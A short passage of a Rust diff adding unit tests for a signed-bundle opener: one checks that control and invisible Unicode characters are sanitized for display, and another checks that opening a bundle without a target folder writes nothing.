+        assert_eq!(displayable("a\u{2066}b\u{200B}c\u{7}"), "a_b_c_");
+    }
+
+    #[test]
+    fn looking_without_a_folder_writes_nothing() {
+        let key = sealing_key();
+        let (sealed, lawyer) = signed_bundle(&key, &[("01-x/a.txt", b"notes")], |_| {});
+        let before = std::env::current_dir().unwrap();
+        let opened = open(&mut &sealed[..], Input::Sealed(&lawyer), None, None).unwrap();
+        assert!(opened.written.is_empty());
+        assert_eq!(opened.manifest.version, 1);
+        assert_eq!(std::env::current_dir().unwrap(), before);
+    }
+}
